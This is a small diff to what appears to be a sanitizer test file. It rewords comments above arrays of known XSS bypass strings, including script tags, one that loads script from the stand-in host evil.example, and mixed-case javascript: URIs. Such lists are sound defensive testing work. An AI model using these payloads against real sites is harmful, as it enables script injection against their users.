@@ -1,4 +1,4 @@
-/** Ways in which people have got scripts past sanitizers; each calls or loads something when it survives. */
+/** Known ways to get scripts past sanitizers; each calls or loads something if it survives. */
 const wholes = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
@@ -82,7 +82,7 @@ const wholes = [
   '&lt;script&gt;alert(1)&lt;/script&gt;',
 ]
 
-/** Addresses that run something, or lead away while they look as if they stayed. */
+/** Addresses that run scripts, or lead off the site while looking internal. */
 const addresses = [
   'javascript:alert(1)',
   'JaVaScRiPt:alert(1)',
